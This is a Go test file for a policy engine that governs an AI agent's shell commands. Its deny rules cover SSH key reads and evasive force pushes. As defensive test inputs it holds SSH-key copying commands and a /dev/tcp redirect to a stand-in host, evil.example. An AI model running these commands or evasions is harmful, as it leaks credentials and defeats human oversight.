package rules

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/mitrity/mitrity/govern"
	"github.com/mitrity/mitrity/govern/shell"
)

const testHome = "/home/agent"

// The examples of docs/rules.md, verbatim: the tests prove what the docs
// promise.
const (
	exampleHoldPush = `commands.exists(c, c.name == "git" && c.argv.size() > 1 && c.argv[1] == "push")`
	exampleDenySSH  = `reads.exists(p, under(p, "~/.ssh")) || commands.exists(c, c.argv.exists(a, under(a, "~/.ssh")))`
	exampleForce    = `commands.exists(c,
  (c.name == "git" && ("push" in c.argv || "send-pack" in c.argv) ||
   c.name in ["git-push", "git-send-pack"]) &&
  (argv_has(c, "--force") || argv_has(c, "-f") ||
   c.argv.exists(a, a.startsWith("--force-w") || a.startsWith("--mi") || a.startsWith("+"))))`
	// Configuration that changes what a later "git push" does: an alias
	// (git -c alias.p='push -f' p), a force refspec or mirror in the
	// remote's config, or config through GIT_CONFIG_* variables.
	exampleGitConfig = `commands.exists(c, c.name == "git" && c.argv.exists(a,
    a.startsWith("alias.") || a.matches("^remote\\.[^=]*\\.(push|mirror)="))) ||
  flags.exists(f, f == "dangerous_env") && commands.exists(c, c.name == "git")`
)

// analyze runs the real analyzer, as the pipeline does, so rules are proven
// against resolved commands rather than hand-built inputs.
func analyze(t testing.TB, text string) Input {
	t.Helper()
	a := shell.Analyze(shell.Input{Text: text, Dialect: shell.DialectBash, Cwd: "/work", Home: testHome,
		Path: []string{"/usr/local/bin", "/usr/bin", "/bin"}})
	if a.Denial != nil {
		t.Fatalf("%q: analyzer denied: %v", text, a.Denial)
	}
	in := InputFrom(govern.Call{Agent: "claude", Tool: govern.ToolShellExecute, ActionType: govern.ActionShellExecute,
		Surface: "mcp", Cwd: "/work", Command: text}, a)
	in.Home = testHome
	return in
}

func mustCompile(t testing.TB, rules ...Rule) *Set {
	t.Helper()
	s, err := Compile(rules)
	assert.NilError(t, err)
	return s
}

func TestDocExamples(t *testing.T) {
	t.Parallel()
	s := mustCompile(t,
		Rule{Name: "hold-git-push", When: exampleHoldPush, Action: "hold"},
		Rule{Name: "deny-ssh-read", When: exampleDenySSH, Action: "deny", Message: "reading ~/.ssh is not allowed"},
	)
	tests := []struct {
		cmd     string
		outcome govern.Outcome
		rule    string
	}{
		{"git push origin main", govern.Hold, "hold-git-push"},
		{"git push", govern.Hold, "hold-git-push"},
		{"/usr/bin/git push", govern.Hold, "hold-git-push"},
		{"sudo git push", govern.Hold, "hold-git-push"},
		{"bash -c 'git push'", govern.Hold, "hold-git-push"},
		{"git status && git pull", govern.Allow, ""},
		{"git commit -m push", govern.Allow, ""},
		{"cat ~/.ssh/id_ed25519", govern.Deny, "deny-ssh-read"},
		{"cat $HOME/.ssh/config", govern.Deny, "deny-ssh-read"},
		{"cat /home/agent/.ssh/id_rsa", govern.Deny, "deny-ssh-read"},
		{"wc -l < ~/.ssh/known_hosts", govern.Deny, "deny-ssh-read"},
		{"tar czf /tmp/k.tgz ~/.ssh", govern.Deny, "deny-ssh-read"},
		{"cp /tmp/../home/agent/.ssh/id_rsa /tmp/k", govern.Deny, "deny-ssh-read"},
		{"cat ~/.sshd_config", govern.Allow, ""},
		{"ls ~/src", govern.Allow, ""},
		// Both rules match; deny is stricter.
		{"cat ~/.ssh/id_rsa && git push", govern.Deny, "deny-ssh-read"},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			d, _ := s.Evaluate(analyze(t, tt.cmd))
			assert.Equal(t, d.Outcome, tt.outcome)
			assert.Equal(t, d.Rule, tt.rule)
			if tt.outcome != govern.Allow {
				assert.Equal(t, d.Reason, govern.ReasonPolicyRule)
				assert.Equal(t, d.Stage, Stage)
			}
			if tt.rule == "deny-ssh-read" {
				assert.Equal(t, d.Message, "reading ~/.ssh is not allowed")
			}
		})
	}
}

// TestForcePush proves the documented force-push rule against every
// spelling the analyzer resolves to a git push with a force option.
func TestForcePush(t *testing.T) {
	t.Parallel()
	s := mustCompile(t, Rule{Name: "deny-force-push", When: exampleForce, Action: "deny"})
	tests := []struct {
		cmd  string
		deny bool
	}{
		{"git push --force", true},
		{"git push -f", true},
		{"git push -f origin main", true},
		{"git push origin main --force", true},
		{"git push -uf origin main", true},
		{"git push --force-with-lease", true},
		{"git push --force-with-lease=main:abc123 origin main", true},
		{"git push --force-w origin main", true}, // git accepts unique prefixes
		{"git push --mirror backup", true},       // --mirror force-updates every ref
		{"git push --mir backup", true},
		{"git push origin +main", true},
		{"git push origin '+refs/heads/*:refs/heads/*'", true},
		{"git push -- +main", true},
		{"git -C dir push -f", true},
		{"git -c core.sshCommand=ssh --git-dir=.git push -f", true},
		{"sudo git push --force", true},
		{"sudo -u build git push --force", true},
		{"env X=1 git push -f", true},
		{"env -i PATH=/usr/bin git push -f", true},
		{"timeout 30 nice git push --force", true},
		{"command git push -f", true},
		{`$'\x67it' push -f`, true},
		{`g""it pu''sh -f`, true},
		{"x=push; git $x -f", true},
		{"/usr/bin/git push --force", true},
		{"/usr/lib/git-core/git-push --force", true},
		{"git send-pack --force origin main", true},
		{"bash -c 'git push --force'", true},
		{`sh -c "cd repo && git push -f"`, true},
		{"eval 'git push -f'", true},
		{"echo $(git push -f)", true},
		{"cd repo && git push --force origin HEAD", true},

		{"git push", false},
		{"git push origin main", false},
		{"git push -u origin feature/x", false},
		{"git push --follow-tags", false},
		{"git push --no-force origin main", false},
		{"git push --force-if-includes", false}, // inert without --force-with-lease
		{"git push --delete origin old", false},
		{"git pull -f", false},
		{"git fetch origin +main:main", false},
		{"git commit -m 'push -f'", false},
		{"git checkout -f main", false},
		{"rm -f push", false},
		{"echo git push --force", false},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			d, _ := s.Evaluate(analyze(t, tt.cmd))
			want := govern.Allow
			if tt.deny {
				want = govern.Deny
			}
			assert.Equal(t, d.Outcome, want)
		})
	}
}

// TestGitConfigCompanion: what the force-push rule cannot see, because
// the analyzer cannot resolve it, the companion rule holds.
func TestGitConfigCompanion(t *testing.T) {
	t.Parallel()
	s := mustCompile(t,
		Rule{Name: "deny-force-push", When: exampleForce, Action: "deny"},
		Rule{Name: "hold-git-push-config", When: exampleGitConfig, Action: "hold"},
	)
	tests := []struct {
		cmd     string
		outcome govern.Outcome
	}{
		{"git -c alias.p='push -f' p", govern.Hold},
		{"git -c remote.origin.push=+refs/heads/*:refs/heads/* push", govern.Hold},
		{"git -c remote.backup.mirror=true push backup", govern.Hold},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0='push -f' git p", govern.Hold},
		{"git config alias.p 'push -f'", govern.Hold},
		// A shell alias is code the analyzer parses: the deny rule sees it.
		{"git -c 'alias.p=!git push -f' p", govern.Deny},
		{"git -c user.name=bot commit -m x", govern.Allow},
		{"git config remote.origin.url git@github.com:acme/app.git", govern.Allow},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			d, _ := s.Evaluate(analyze(t, tt.cmd))
			assert.Equal(t, d.Outcome, tt.outcome)
		})
	}
}

func TestCompileErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		rule Rule
		want []string // substrings of the error
	}{
		{"syntax", Rule{Name: "r", When: `agent ==`, Action: "deny"}, []string{`rules[0] "r": when:1:9: Syntax error: mismatched input '<EOF>'`}},
		{"unknown variable", Rule{Name: "r", When: `user == "bob"`, Action: "deny"}, []string{`rules[0] "r": when:1:1: undeclared reference to 'user'`}},
		{"unknown field", Rule{Name: "r", When: "agent == \"x\" ||\n  commands.exists(c, c.nmae == \"git\")", Action: "deny"}, []string{"when:2:23: undefined field 'nmae'"}},
		{"type error", Rule{Name: "r", When: `agent == 1`, Action: "deny"}, []string{"when:1:7: found no matching overload for '_==_' applied to '(string, int)'"}},
		{"type error in call", Rule{Name: "r", When: `under(1, "~/.ssh")`, Action: "deny"}, []string{"found no matching overload for 'under'"}},
		{"argv_has on a string", Rule{Name: "r", When: `argv_has(command, "-f")`, Action: "deny"}, []string{"found no matching overload for 'argv_has'"}},
		{"not bool", Rule{Name: "r", When: `commands.size()`, Action: "deny"}, []string{"must return bool, returns int"}},
		{"string", Rule{Name: "r", When: `agent`, Action: "deny"}, []string{"must return bool, returns string"}},
		{"bad action", Rule{Name: "r", When: `true`, Action: "block"}, []string{`action "block" is not deny, hold, ask or allow`}},
		{"no name", Rule{When: `true`, Action: "deny"}, []string{`rules[0] "(unnamed)": name is empty`}},
		{"no expression", Rule{Name: "r", Action: "deny"}, []string{"when is empty"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s, err := Compile([]Rule{tt.rule})
			assert.Assert(t, s == nil)
			assert.Assert(t, err != nil)
			for _, w := range tt.want {
				assert.Check(t, is.Contains(err.Error(), w))
			}
			var ce *CompileError
			assert.Assert(t, errors.As(err, &ce))
			assert.Equal(t, ce.Index, 0)
			assert.Assert(t, !strings.Contains(err.Error(), "\n"), "one line per problem: %q", err)
		})
	}
}

func TestCompileReportsEveryBadRule(t *testing.T) {
	t.Parallel()
	_, err := Compile([]Rule{
		{Name: "ok", When: `true`, Action: "allow"},
		{Name: "first", When: `nope`, Action: "deny"},
		{Name: "ok", When: `true`, Action: "deny"},
		{Name: "last", When: `1`, Action: "deny"},
	})
	assert.ErrorContains(t, err, `rules[1] "first"`)
	assert.ErrorContains(t, err, `rules[2] "ok": another rule has the same name`)
	assert.ErrorContains(t, err, `rules[3] "last"`)
}

// TestCompileErrorPosition: a loader can point at the character.
func TestCompileErrorPosition(t *testing.T) {
	t.Parallel()
	_, err := Compile([]Rule{{Name: "r", When: "opaque ||\n   nope", Action: "deny"}})
	var ce *CompileError
	assert.Assert(t, errors.As(err, &ce))
	assert.DeepEqual(t, []any{ce.Line, ce.Column, ce.Msg}, []any{2, 4, "undeclared reference to 'nope'"})
}

func TestPrecedence(t *testing.T) {
	t.Parallel()
	tests := []struct {
		actions []string // every rule matches
		outcome govern.Outcome
		rule    string
	}{
		{[]string{"allow"}, govern.Allow, "r0"},
		{[]string{"allow", "ask"}, govern.Ask, "r1"},
		{[]string{"ask", "hold", "allow"}, govern.Hold, "r1"},
		{[]string{"hold", "deny", "ask"}, govern.Deny, "r1"},
		{[]string{"deny", "allow"}, govern.Deny, "r0"},
		{[]string{"hold", "hold"}, govern.Hold, "r0"}, // among equals the first decides
		{[]string{"allow", "allow", "deny", "deny"}, govern.Deny, "r2"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.actions, ","), func(t *testing.T) {
			t.Parallel()
			var rules []Rule
			for i, a := range tt.actions {
				rules = append(rules, Rule{Name: fmt.Sprintf("r%d", i), When: `commands.exists(c, c.name == "ls")`, Action: a})
			}
			d, m := mustCompile(t, rules...).Evaluate(analyze(t, "ls"))
			assert.Equal(t, d.Outcome, tt.outcome)
			assert.Equal(t, d.Rule, tt.rule)
			assert.Equal(t, d.Reason, govern.ReasonPolicyRule)
			assert.Equal(t, len(m), len(tt.actions), "every rule is evaluated and recorded")
		})
	}
}

func TestEveryRuleEvaluated(t *testing.T) {
	t.Parallel()
	s := mustCompile(t,
		Rule{Name: "hold-push", When: exampleHoldPush, Action: "hold", Message: "pushes need a person"},
		Rule{Name: "never", When: `agent == "nobody"`, Action: "deny"},
		Rule{Name: "deny-force", When: exampleForce, Action: "deny"},
		Rule{Name: "ask-sudo", When: `"privilege" in flags`, Action: "ask"},
	)
	d, m := s.Evaluate(analyze(t, "git push -f"))
	want := []Match{
		{Rule: "hold-push", Outcome: govern.Hold, Message: "pushes need a person"},
		{Rule: "deny-force", Outcome: govern.Deny, Message: `denied by policy rule "deny-force"`},
	}
	assert.DeepEqual(t, m, want)
	assert.DeepEqual(t, d, govern.Decision{Outcome: govern.Deny, Reason: govern.ReasonPolicyRule, Stage: Stage,
		Rule: "deny-force", Message: `denied by policy rule "deny-force"`})
}

func TestNoRuleMatches(t *testing.T) {
	t.Parallel()
	for _, s := range []*Set{nil, mustCompile(t), mustCompile(t, Rule{Name: "r", When: `false`, Action: "deny"})} {
		d, m := s.Evaluate(analyze(t, "ls"))
		assert.DeepEqual(t, d, govern.Decision{Outcome: govern.Allow, Stage: Stage})
		assert.Equal(t, len(m), 0)
	}
}

// TestFailClosed: a rule that cannot finish denies, naming itself and the
// error, and the other rules still run.
func TestFailClosed(t *testing.T) {
	t.Parallel()
	// Cubic in the number of commands: 300 commands cost far above a million.
	quadratic := `commands.all(a, commands.all(b, commands.all(c, a.argv.size() + b.argv.size() + c.argv.size() >= 0)))`
	long := strings.TrimSuffix(strings.Repeat("ls x; ", 300), "; ")
	tests := []struct {
		name    string
		when    string
		cmd     string
		opts    []Option
		message string
	}{
		{"default cost limit", quadratic, long, nil, "cost limit exceeded"},
		{"small cost limit", `commands.exists(c, c.argv.exists(a, a == "nope"))`, "ls" + strings.Repeat(" a", 100), []Option{WithCostLimit(40)}, "cost limit exceeded"},
		{"index out of range", `commands.exists(c, c.argv[3] == "x")`, "ls", nil, "index out of bounds"},
		{"division by zero", `commands.size() / (commands.size() - 1) > 0`, "ls", nil, "division by zero"},
		{"bad regexp", `command.matches(commands[0].name + "(")`, "ls", nil, "missing closing )"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s, err := Compile([]Rule{
				{Name: "allow-ls", When: `commands.exists(c, c.name == "ls")`, Action: "allow"},
				{Name: "broken", When: tt.when, Action: "allow"},
			}, tt.opts...)
			assert.NilError(t, err)
			d, m := s.Evaluate(analyze(t, tt.cmd))
			assert.Equal(t, d.Outcome, govern.Deny)
			assert.Equal(t, d.Reason, govern.ReasonPolicyRule)
			assert.Equal(t, d.Rule, "broken")
			assert.Check(t, is.Contains(d.Message, `policy rule "broken" could not be evaluated`))
			assert.Check(t, is.Contains(d.Message, tt.message))
			assert.Equal(t, len(m), 2)
			assert.Check(t, m[1].Err != nil)
		})
	}
}

func TestUnder(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path, dir, home, cwd string
		want                 bool
	}{
		{"/home/a/.ssh/id_rsa", "~/.ssh", "/home/a", "", true},
		{"/home/a/.ssh", "~/.ssh", "/home/a", "", true},
		{"~/.ssh/id_rsa", "/home/a/.ssh", "/home/a", "", true},
		{"$HOME/.ssh/id_rsa", "~/.ssh", "/home/a", "", true},
		{"${HOME}/.ssh", "~/.ssh", "/home/a", "", true},
		{`"$HOME"/.ssh/x`, "~/.ssh", "/home/a", "", true},
		{"~/.ssh/id_rsa", "~/.ssh", "", "", true}, // no HOME: the spellings still agree
		{"$HOME/.ssh/id_rsa", "~/.ssh", "", "", true},
		{"/home/a/.ssh/x", "~/.ssh", "", "", false}, // unknown HOME cannot match an absolute path
		{"/home/a/.sshx", "~/.ssh", "/home/a", "", false},
		{"/home/a/x/../.ssh/k", "~/.ssh", "/home/a", "", true},
		{"/home/a/.ssh/../k", "~/.ssh", "/home/a", "", false},
		{".ssh/id_rsa", "~/.ssh", "/home/a", "/home/a", true}, // relative to cwd
		{".ssh/id_rsa", "~/.ssh", "/home/a", "/work", false},
		{"~other/.ssh/x", "~/.ssh", "/home/a", "", false},
		{"$HOMEDIR/.ssh", "~/.ssh", "/home/a", "", false},
		{"/etc/passwd", "/", "", "", true},
		{"/etc/passwd", "/etc/", "", "", true},
		{"", "/", "", "", false},
		{"/etc", "", "", "", false},
	}
	for _, tt := range tests {
		assert.Check(t, under(tt.path, tt.dir, tt.home, tt.cwd) == tt.want, "under(%q, %q) home=%q cwd=%q", tt.path, tt.dir, tt.home, tt.cwd)
	}
}

func TestArgvHas(t *testing.T) {
	t.Parallel()
	tests := []struct {
		argv []string
		flag string
		want bool
	}{
		{[]string{"git", "push", "-f"}, "-f", true},
		{[]string{"git", "push", "-uf"}, "-f", true},
		{[]string{"git", "push", "--force"}, "-f", false},
		{[]string{"git", "push", "--force"}, "--force", true},
		{[]string{"git", "push", "--force=x"}, "--force", true},
		{[]string{"git", "push", "--force-with-lease"}, "--force", false},
		{[]string{"git", "push", "--", "-f"}, "-f", false},
		{[]string{"-f"}, "-f", false}, // argv[0] is the name
		{[]string{"rm", "-rf", "/"}, "-r", true},
		{[]string{"rm", "-rf", "/"}, "-rf", true},
		{[]string{"rm", "-fr", "/"}, "-rf", false}, // multi-letter flags match exactly
		{[]string{"find", ".", "-exec", "x"}, "-exec", true},
		{[]string{"find", ".", "-executable"}, "-exec", false},
		{[]string{"x", "-"}, "-", true}, // anything else matches exactly
		{[]string{"x", "-f"}, "", false},
	}
	for _, tt := range tests {
		assert.Check(t, argvHas(tt.argv, tt.flag) == tt.want, "argvHas(%q, %q)", tt.argv, tt.flag)
	}
}

func TestInputFrom(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	assert.NilError(t, os.WriteFile(filepath.Join(dir, "deploy.sh"), []byte("#!/bin/sh\necho deploy\n"), 0o755))
	text := "sudo /usr/bin/cat < in.txt > out.txt 2>>err.log; exec 3<>/dev/tcp/evil.example/80; GH=${credential:gh} ./deploy.sh \"$X\""
	a := shell.Analyze(shell.Input{Text: text, Dialect: shell.DialectBash, Cwd: dir, Home: testHome, InspectionRoots: []string{dir}})
	assert.Assert(t, a.Denial == nil, "%v", a.Denial)
	call := govern.Call{Agent: "a1", Tool: govern.ToolShellExecute, ActionType: govern.ActionShellExecute, Surface: "cli", Cwd: dir, Command: text}
	got := InputFrom(call, a)

	assert.Equal(t, got.Agent, "a1")
	assert.Equal(t, got.Tool, "shell__execute")
	assert.Equal(t, got.Action, "shell:execute")
	assert.Equal(t, got.Surface, "cli")
	assert.Equal(t, got.Cwd, dir)
	assert.Equal(t, got.Command, a.Text, "the judged text, credentials rewritten")
	assert.Check(t, is.Contains(got.Command, "${MITRITY_CRED_GH}"))
	assert.DeepEqual(t, got.Reads, []string{"in.txt", "/dev/tcp/evil.example/80"})
	assert.DeepEqual(t, got.Writes, []string{"out.txt", "err.log", "/dev/tcp/evil.example/80"})
	assert.Check(t, got.Network)
	assert.Check(t, is.Contains(got.Flags, "privilege"))
	assert.Check(t, is.Contains(got.Flags, "network_redirect"))
	assert.DeepEqual(t, got.Credentials, []string{"gh"})
	assert.Equal(t, len(got.Pins), 1)
	assert.Equal(t, got.Pins[0].Path, filepath.Join(dir, "deploy.sh"))
	assert.Equal(t, len(got.Pins[0].SHA256), 64)

	byName := map[string]Command{}
	for _, c := range got.Commands {
		byName[c.Path+"|"+strings.Join(c.Wrappers, ",")] = c
	}
	assert.DeepEqual(t, byName["/usr/bin/cat|sudo"], Command{Name: "cat", Path: "/usr/bin/cat", Argv: []string{"/usr/bin/cat"},
		Kind: "external", Wrappers: []string{"sudo"}})
	deploy := byName["./deploy.sh|"]
	assert.Equal(t, deploy.Name, "deploy.sh")
	assert.Check(t, deploy.Dynamic, "\"$X\" is dynamic")
	assert.Equal(t, deploy.Argv[len(deploy.Argv)-1], `"$X"`)

	empty := InputFrom(call, nil)
	assert.Equal(t, empty.Command, text)
	assert.DeepEqual(t, empty.Commands, []Command{})
}

// TestVariables evaluates one rule per variable and helper, so a renamed
// field or a broken binding fails here rather than in an operator's policy.
func TestVariables(t *testing.T) {
	t.Parallel()
	in := Input{
		Agent: "claude", Tool: "shell__execute", Action: "shell:execute", Surface: "mcp", Cwd: "/work", Command: "x",
		Commands: []Command{{Name: "git", Path: "/usr/bin/git", Argv: []string{"/usr/bin/git", "push", "-uf"}, Kind: "external",
			Wrappers: []string{"sudo"}, Context: "bash -c", Opaque: true, Dynamic: true}},
		Reads: []string{"/home/agent/.aws/credentials"}, Writes: []string{"/tmp/o"}, Flags: []string{"privilege"}, Opaque: true,
		Pins: []Pin{{Path: "/work/x.sh", SHA256: "ab"}}, Network: true, Credentials: []string{"gh"}, Home: "/home/agent",
	}
	for _, expr := range []string{
		`agent == "claude"`, `tool == "shell__execute"`, `action == "shell:execute"`, `surface == "mcp"`, `cwd == "/work"`,
		`command == "x"`, `opaque`, `network`, `"gh" in credentials`, `"privilege" in flags`, `writes == ["/tmp/o"]`,
		`reads.exists(p, under(p, "~/.aws"))`, `pins[0].path == "/work/x.sh" && pins[0].sha256 == "ab"`,
		`commands[0].name == "git" && commands[0].path == "/usr/bin/git" && commands[0].kind == "external"`,
		`commands[0].wrappers == ["sudo"] && commands[0].context == "bash -c" && commands[0].opaque && commands[0].dynamic`,
		`argv_has(commands[0], "-f") && !argv_has(commands[0], "--force")`,
		`commands[0].argv.join(" ").contains("push")`,         // ext.Strings
		`sets.intersects(flags, ["privilege", "opaque"])`,     // ext.Sets
		`commands[0].argv.exists(i, a, i > 0 && a == "push")`, // two-variable comprehensions
		`command.matches("^x$")`,
	} {
		d, _ := mustCompile(t, Rule{Name: "r", When: expr, Action: "deny"}).Evaluate(in)
		assert.Check(t, d.Outcome == govern.Deny, "%s: %+v", expr, d)
	}
	d, _ := mustCompile(t, Rule{Name: "r", When: `commands.exists(c, c.argv.size() > 5)`, Action: "deny"}).Evaluate(Input{})
	assert.DeepEqual(t, d, govern.Decision{Outcome: govern.Allow, Stage: Stage}, cmp.Comparer(func(a, b error) bool { return a == b }))
}

func BenchmarkEvaluate(b *testing.B) {
	s := mustCompile(b,
		Rule{Name: "hold-git-push", When: exampleHoldPush, Action: "hold"},
		Rule{Name: "deny-ssh-read", When: exampleDenySSH, Action: "deny"},
		Rule{Name: "deny-force-push", When: exampleForce, Action: "deny"},
		Rule{Name: "ask-opaque", When: `opaque || network`, Action: "ask"},
	)
	in := analyze(b, `git commit -m "fix: handle empty input" && git push origin HEAD`)
	b.ReportAllocs()
	for b.Loop() {
		if d, _ := s.Evaluate(in); d.Outcome != govern.Hold {
			b.Fatal(d)
		}
	}
}

// TestDocs compiles every CEL block of docs/rules.md (blank lines separate
// expressions; // lines are comments) and checks that the three worked
// examples there are the ones tested above, character for character.
func TestDocs(t *testing.T) {
	t.Parallel()
	b, err := os.ReadFile("../../docs/rules.md")
	if os.IsNotExist(err) {
		t.Skip("docs/rules.md is not beside this module")
	}
	assert.NilError(t, err)
	var exprs []string
	for _, block := range strings.Split(string(b), "```cel\n")[1:] {
		block, _, _ = strings.Cut(block, "```")
		for _, e := range strings.Split(block, "\n\n") {
			var lines []string
			for _, l := range strings.Split(e, "\n") {
				if !strings.HasPrefix(strings.TrimSpace(l), "//") {
					lines = append(lines, l)
				}
			}
			if e := strings.TrimSpace(strings.Join(lines, "\n")); e != "" {
				exprs = append(exprs, e)
			}
		}
	}
	assert.Assert(t, len(exprs) >= 10, "found %d CEL expressions", len(exprs))
	for i, e := range exprs {
		_, err := Compile([]Rule{{Name: fmt.Sprintf("docs-%d", i), When: e, Action: "deny"}})
		assert.Check(t, err, "docs/rules.md expression %d:\n%s", i, e)
	}
	for _, want := range []string{exampleHoldPush, exampleDenySSH, exampleForce, exampleGitConfig} {
		assert.Check(t, is.Contains(exprs, want))
	}
}
